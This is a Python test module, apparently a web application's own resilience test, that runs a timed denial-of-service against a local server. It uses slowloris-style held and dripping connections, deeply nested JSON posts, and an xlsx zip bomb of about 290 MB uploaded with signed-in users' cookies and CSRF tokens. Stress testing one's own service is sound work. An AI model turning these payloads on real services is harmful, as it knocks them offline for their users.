"""Strangers at the door: silent, slow and greedy connections, in a process of their own, bounded in number and time.

Run as `python -m tests.attack.strangers PORT SECONDS [COOKIE CSRF PATH ...]`: each COOKIE, CSRF and PATH let one
signed-in person send the unfolding sheet to an upload address.
"""

from __future__ import annotations

import http.client
import io
import socket
import sys
import threading
import time
import zipfile
from collections.abc import Sequence
from contextlib import suppress

HOST = "127.0.0.1"
SILENT = HALF_HEADS = HALF_BODIES = DRIPPING = 20
NESTED, DEPTH, MEGABYTE = 4, 900, 1024 * 1024
ADDRESSES = ("/", "/sign-in", "/api/v1/tokens", "/nowhere", "/api/v1/reports", "/communities/x/entries/new")
UNFOLDED = 290 * MEGABYTE
DRIP = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Slow: "
BODY = (
    b"POST /sign-in HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: "
)

_ROW = b"<row><c><v>1</v></c><c><v>2</v></c></row>"
_PARTS = {
    "[Content_Types].xml": "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'><Default"
    " Extension='xml' ContentType='application/xml'/><Default Extension='rels' ContentType='application/vnd."
    "openxmlformats-package.relationships+xml'/><Override PartName='/xl/workbook.xml' ContentType='application/vnd."
    "openxmlformats-officedocument.spreadsheetml.sheet.main+xml'/></Types>",
    "_rels/.rels": "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship"
    " Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument'"
    " Target='xl/workbook.xml'/></Relationships>",
    "xl/workbook.xml": "<workbook xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'"
    " xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships'><sheets><sheet name='1' sheetId='1'"
    " r:id='r1'/></sheets></workbook>",
    "xl/_rels/workbook.xml.rels": "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
    "<Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet'"
    " Target='worksheets/sheet1.xml'/></Relationships>",
}


def unfolding_sheet(size: int = UNFOLDED) -> bytes:
    """Return an xlsx file of well under a megabyte whose one sheet unfolds to about `size` bytes."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in _PARTS.items():
            archive.writestr(name, content)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(b"<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'><sheetData>")
            piece = _ROW * (MEGABYTE // len(_ROW))
            for _ in range(size // len(piece)):
                sheet.write(piece)
            sheet.write(b"</sheetData></worksheet>")
    return target.getvalue()


def nested_json() -> bytes:
    """Return 1 MB of JSON nested 900 deep."""
    one = b"[" * DEPTH + b'"x"' + b"]" * DEPTH
    return b"[" + b",".join([one] * (MEGABYTE // len(one))) + b"]"


def opened(port: int, start: bytes) -> socket.socket:
    connection = socket.create_connection((HOST, port), timeout=5)
    connection.sendall(start)
    return connection


def held_open(port: int) -> list[socket.socket]:
    """Open connections that say nothing, half a head, or half a body, and keep them."""
    starts = [b""] * SILENT + [b"GET / HTTP/1.1\r\nHost: loc"] * HALF_HEADS + [BODY + b"100\r\n\r\nhalf"] * HALF_BODIES
    starts += [BODY + b"2000000\r\n\r\n" + bytes(70_000)] * 4
    return [opened(port, start) for start in starts]


def drip(port: int, until: float) -> None:
    """Send one head a byte at a time, for ever if allowed."""
    with suppress(OSError), opened(port, DRIP) as connection:
        while time.monotonic() < until:
            connection.sendall(b"x")
            time.sleep(0.2)


def send(port: int, path: str, body: bytes, headers: dict[str, str], until: float) -> None:
    """Post a body again and again until the time is over; whatever answer or none comes is no matter."""
    while time.monotonic() < until:
        connection = http.client.HTTPConnection(HOST, port, timeout=max(0.1, until - time.monotonic()))
        with suppress(OSError, http.client.HTTPException):
            connection.request("POST", path, body, headers)
            connection.getresponse().read()
        connection.close()
        time.sleep(0.05)


def upload(sheet: bytes, csrf: str) -> tuple[bytes, dict[str, str]]:
    """Return the body and the headers of a form that sends a sheet."""
    name = 'form-data; name="sheet"; filename="党员.xlsx"'
    head = f"--cut\r\nContent-Disposition: {name}\r\nContent-Type: application/octet-stream\r\n\r\n".encode()
    return head + sheet + b"\r\n--cut--\r\n", {"Content-Type": "multipart/form-data; boundary=cut", "X-CSRFToken": csrf}


def attack(port: int, seconds: float, people: Sequence[tuple[str, str, str]]) -> None:
    """Do it all at once for so many seconds; each person is a cookie, a forgery token and an upload address."""
    nested, sheet = nested_json(), unfolding_sheet() if people else b""
    until = time.monotonic() + seconds
    threads = [threading.Thread(target=drip, args=(port, until)) for _ in range(DRIPPING)]
    for number in range(NESTED):
        path = ADDRESSES[number % len(ADDRESSES)]
        threads.append(
            threading.Thread(target=send, args=(port, path, nested, {"Content-Type": "application/json"}, until))
        )
    for cookie, csrf, path in people:
        body, headers = upload(sheet, csrf)
        threads.append(threading.Thread(target=send, args=(port, path, body, headers | {"Cookie": cookie}, until)))
    connections = held_open(port)
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(seconds + 10)
    for connection in connections:
        connection.close()


if __name__ == "__main__":
    arguments = sys.argv[3:]
    attack(
        int(sys.argv[1]), float(sys.argv[2]), list(zip(arguments[::3], arguments[1::3], arguments[2::3], strict=True))
    )
